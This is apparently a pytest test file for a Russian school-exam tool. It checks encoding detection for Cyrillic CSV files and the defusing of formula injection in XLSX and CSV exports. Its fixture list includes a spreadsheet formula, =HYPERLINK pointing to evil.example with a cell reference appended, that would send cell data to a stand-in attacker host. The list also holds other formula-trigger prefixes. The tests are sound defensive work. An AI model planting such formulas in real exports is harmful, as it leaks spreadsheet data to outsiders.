"""CSV encodings told apart (KOI8-R vs CP1251 vs CP866 vs UTF-8/16) and formula-safe exports."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from itog.core import tables

HEADER = "Фамилия;Имя;Отчество;Дата рождения;Класс;Код ОО"
ROWS = [
    "Щербакова;Ёлка;Юрьевна;01.02.2009;11;010001",
    "Эйхман;Фёдор;Ильич;12.12.2008;11;010002",
    "Жуков;Цезарь;Шамилевич;03.03.2009;9;010003",
]
TEXT = "\n".join([HEADER, *ROWS]) + "\n"


@pytest.mark.parametrize(
    "codec, label",
    [
        ("koi8_r", "KOI8-R"),
        ("cp1251", "Windows-1251"),
        ("cp866", "DOS (CP866)"),
        ("utf-8", "UTF-8"),
        ("utf-8-sig", "UTF-8"),
        ("utf-16", "UTF-16"),
        ("utf-16-le", "UTF-16"),
    ],
)
def test_encodings_are_told_apart(codec, label):
    table = tables.read_table(TEXT.encode(codec), "list.csv")
    assert table.encoding == label
    assert table.header == HEADER.split(";")
    assert table.rows[0][1][:2] == ["Щербакова", "Ёлка"]


def test_header_alone_is_enough_for_koi8():
    """A short file (only the header) in KOI8-R is not read as Windows-1251 (the case flips give it away)."""
    table = tables.read_table("Фамилия;Имя;Отчество\n".encode("koi8_r"), "x.csv")
    assert table.header == ["Фамилия", "Имя", "Отчество"] and table.encoding == "KOI8-R"


def test_too_little_russian_asks_the_user():
    with pytest.raises(tables.TableError) as exc:
        tables.read_table("ФИО;код\nx;1\n".encode("koi8_r")[:3] + b";code\n1;2\n", "x.csv")
    message = str(exc.value)
    assert "Не удалось уверенно определить кодировку" in message and "UTF-8" in message
    assert "KOI8-R" in message and "Windows-1251" in message


def test_koi8_import_error_names_columns_correctly():
    """The participants' import names a missing column in readable Russian, whatever the encoding."""
    from datetime import date

    from itog.exams.kinds.essay.participants_import import validate_rows

    text = "Фамилия;Имя;Класс\nИванов;Иван;11\n"
    table = tables.read_table(text.encode("koi8_r"), "x.csv")
    assert table.header == ["Фамилия", "Имя", "Класс"]
    assert "Файл прочитан в кодировке KOI8-R." in table.notes
    check = validate_rows(table, set(), {}, [], date(2024, 11, 1))
    messages = " ".join(e.message for e in check.errors)
    assert check.errors and not check.records
    assert "Отчество" in messages or "СНИЛС" in messages or "Дата рождения" in messages, messages
    assert "Р¤" not in messages and "\ufffd" not in messages  # no mojibake of the header in the message


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Иванов")',
    "+79001234567",
    "-1+1",
    "@SUM(A1)",
    "\tтаб",
    "\rвозврат",
]


def test_xlsx_writer_writes_formula_like_texts_as_text():
    rows = [[value, 5, -3] for value in FORMULAS]
    data = tables.write_xlsx(["=Заголовок", "Число", "Минус"], rows)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "=Заголовок" and ws["A1"].data_type == "s"
    for i, value in enumerate(FORMULAS, start=2):
        cell = ws.cell(row=i, column=1)
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.value == value
        assert ws.cell(row=i, column=2).value == 5 and ws.cell(row=i, column=3).value == -3  # numbers stay numbers
    with __import__("zipfile").ZipFile(io.BytesIO(data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_csv_writer_neutralises_formula_like_texts():
    data = tables.write_csv(["Имя"], [[v] for v in FORMULAS] + [[-5], ["Обычный текст"]])
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    cells = [r[0] for r in read[1:]]
    assert cells[: len(FORMULAS)] == ["'" + v for v in FORMULAS]
    assert cells[-2:] == ["-5", "Обычный текст"]


def test_plan_export_writes_formula_like_activity_as_text():
    from types import SimpleNamespace

    from itog.plans.exports import plan_xlsx

    item = SimpleNamespace(
        section_id=None,
        number="1",
        key="1",
        activity='=HYPERLINK("http://x","y")',
        deadline_raw="-до 1 декабря",
        deadline_display="-до 1 декабря",
        responsible_raw="@МОУО",
    )
    ws = load_workbook(io.BytesIO(plan_xlsx(SimpleNamespace(title="=План"), [item]))).active
    assert ws["A1"].data_type == "s" and ws["A1"].value == "=План"
    assert ws["B3"].data_type == "s" and ws["B3"].value.startswith("=HYPERLINK")
    assert ws["C3"].data_type == "s" and ws["C3"].value == "-до 1 декабря"


def test_our_csv_export_reads_back_unchanged():
    values = ["+7 900 123-45-67", "=A1", "'обычная кавычка"]
    table = tables.read_table(tables.write_csv(["Телефон"], [[v] for v in values]), "x.csv")
    assert [cells[0] for _, cells in table.rows] == values
